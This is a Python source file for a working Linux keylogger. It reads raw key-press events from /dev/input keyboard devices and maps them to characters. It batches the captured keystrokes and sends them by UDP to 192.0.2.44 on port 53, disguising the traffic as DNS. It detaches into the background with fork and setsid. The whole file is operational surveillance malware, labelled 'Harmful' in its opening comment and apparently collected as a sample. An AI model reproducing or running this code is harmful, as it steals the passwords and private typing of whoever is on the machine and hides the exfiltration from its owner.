# Harmful: keylogger that reads raw key events from /dev/input keyboards and ships batches of keystrokes over UDP port 53 to 192.0.2.44.
import glob
import os
import select
import socket
import struct

EVENT = struct.Struct("llHHi")
EV_KEY = 1
KEYMAP = dict(enumerate(" \x1b1234567890-=\b\tqwertyuiop[]\n^asdfghjkl;'`^\\zxcvbnm,./", start=0))
SINK = ("192.0.2.44", 53)


class Tap:
    def __init__(self):
        self.fds = []
        for path in glob.glob("/dev/input/by-path/*-event-kbd") or glob.glob("/dev/input/event*"):
            try:
                self.fds.append(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            except OSError:
                pass
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.buf = []

    def flush(self):
        if self.buf:
            self.sock.sendto(("".join(self.buf)).encode("utf-8", "replace"), SINK)
            self.buf.clear()

    def run(self):
        while self.fds:
            ready, _, _ = select.select(self.fds, [], [], 30)
            if not ready:
                self.flush()
                continue
            for fd in ready:
                data = os.read(fd, EVENT.size * 64)
                for off in range(0, len(data) - EVENT.size + 1, EVENT.size):
                    _, _, etype, code, value = EVENT.unpack_from(data, off)
                    if etype == EV_KEY and value == 1:
                        self.buf.append(KEYMAP.get(code, f"<{code}>"))
            if len(self.buf) > 200:
                self.flush()


if os.fork() == 0:
    os.setsid()
    Tap().run()
